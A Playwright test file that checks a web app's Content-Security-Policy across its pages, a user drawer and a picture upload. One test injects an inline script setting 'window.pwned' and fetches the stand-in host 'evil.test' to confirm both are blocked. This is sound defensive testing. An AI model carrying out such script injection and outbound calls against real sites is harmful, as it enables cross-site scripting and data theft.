import type { Page } from "@playwright/test";
import { hearViolations } from "./contentSecurity";
import { expect, openAs, test } from "./sandbox";

/** The app under its Content-Security-Policy, in use. The built page is in production.spec.ts. */

test("all pages, charts, drawers and a new picture work within the policy", async ({
  sandbox,
  page,
}) => {
  const violations = await hearViolations(page);
  await openAs(page, sandbox, "amara");
  await expect(page.locator("meta[http-equiv='Content-Security-Policy']")).toHaveCount(1);

  for (const name of ["Users", "Events", "Drift", "Runs", "Audit", "Overview"]) {
    await page.getByRole("navigation").getByRole("link", { name, exact: true }).click();
    await expect(page.getByRole("heading", { name, level: 1 })).toBeVisible();
    expect(await violations()).toEqual([]);
  }
  const { id } = await sandbox.person("amara");
  await page.goto(`${sandbox.url}/users?user=${id}`);
  await expect(page.getByRole("dialog")).toContainText("@amara");
  expect(await violations()).toEqual([]);

  await page.goto(`${sandbox.url}/profile`);
  await page.getByLabel("Upload a picture").setInputFiles({
    name: "square.png",
    mimeType: "image/png",
    buffer: await square(page),
  });
  const editor = page.getByRole("dialog", { name: "Adjust your picture" });
  await editor.getByRole("button", { name: "Use picture" }).click();
  await expect(page.getByText("Saved here and in Clerk.").first()).toBeVisible();
  expect(await violations()).toEqual([]);
});

test("a script that somebody puts into the page does not run", async ({ sandbox, page }) => {
  const violations = await hearViolations(page);
  await page.goto(sandbox.url);
  await page.evaluate(async () => {
    const script = document.createElement("script");
    script.textContent = "window.pwned = true;";
    document.body.append(script);
    await fetch("https://evil.test/").catch(() => null);
  });
  await expect
    .poll(violations)
    .toEqual(["script-src-elem inline", "connect-src https://evil.test/"]);
  expect(await page.evaluate(() => "pwned" in window)).toBe(false);
});

async function square(page: Page): Promise<Buffer> {
  const base64 = await page.evaluate(() => {
    const canvas = Object.assign(document.createElement("canvas"), { width: 600, height: 600 });
    canvas.getContext("2d")?.fillRect(0, 0, 300, 600);
    return canvas.toDataURL("image/png").split(",")[1] ?? "";
  });
  return Buffer.from(base64, "base64");
}
